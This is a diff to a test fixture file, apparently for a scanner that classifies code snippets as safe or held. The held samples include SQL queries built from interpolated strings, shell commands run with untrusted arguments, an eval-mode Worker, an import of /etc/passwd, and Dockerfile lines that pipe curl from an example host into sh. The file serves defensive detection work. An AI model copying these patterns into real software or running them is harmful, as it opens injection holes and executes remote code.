@@ -124,6 +124,14 @@ fn main() {
     "rust command bound to a name": _block(
         "rust", 'let mut cmd = Command::new("cargo");\ncmd.arg("build").arg("--release");\ncmd.status()?;'
     ),
+    "js jQuery handler": _block("js", '$("#save").on("click", () => form.submit());'),
+    "js query's exec with nothing to run": _block("js", "const user = await User.findById(id).exec();"),
+    "go template executed": _block("go", "if err := tmpl.Execute(w, data); err != nil {\n\treturn err\n}"),
+    "js query as text and values": _block(
+        "js", 'await pool.query({ text: "SELECT * FROM t WHERE id = $1", values: [id] });'
+    ),
+    "rust sqlite with parameters": _block("rust", 'conn.execute("INSERT INTO t (n) VALUES (?1)", params![n])?;'),
+    "ts module in the project": _block("ts", 'import { parse } from "../lib/parse";'),
     "dockerfile multi-stage": _block(
         "dockerfile",
         """# syntax=docker/dockerfile:1
@@ -194,6 +202,18 @@ HELD = {
         "rust", 'sqlx::query(&format!("SELECT * FROM t WHERE n = {n}")).execute(&pool).await?;'
     ),
     "rust parse error": _block("rust", "fn main( {"),
+    "js worker of a string": _block("js", "new Worker(code, { eval: true });"),
+    "rust clap in scope, process run": _block(
+        "rust", 'use clap::Command;\nCommand::new("sh").arg("-c").arg(x).status();'
+    ),
+    "rust launcher inside a macro": _block("rust", 'println!("{:?}", Command::new("sh").arg(x).output());'),
+    "go cgo": _block("go", '/*\nvoid f() { system("make"); }\n*/\nimport "C"'),
+    "go query bound to a built string": _block(
+        "go", 'q := "SELECT * FROM t WHERE n = \'" + n + "\'"\nrows, _ := db.Query(q)'
+    ),
+    "js execute of a template": _block("js", "conn.execute(`DELETE FROM t WHERE id = ${id}`);"),
+    "js module outside the project": _block("js", 'import x from "/etc/passwd";'),
+    "dockerfile shell running a script": _block("dockerfile", 'FROM alpine\nSHELL ["/bin/sh", "/tmp/wrap.sh"]'),
     "dockerfile curl | sh": _block("dockerfile", "FROM alpine:3.20\nRUN curl https://x.example/i.sh | sh"),
     "dockerfile exec form sh -c": _block(
         "dockerfile", 'FROM alpine\nRUN ["sh", "-c", "curl https://get.tools.io/x | sh"]'
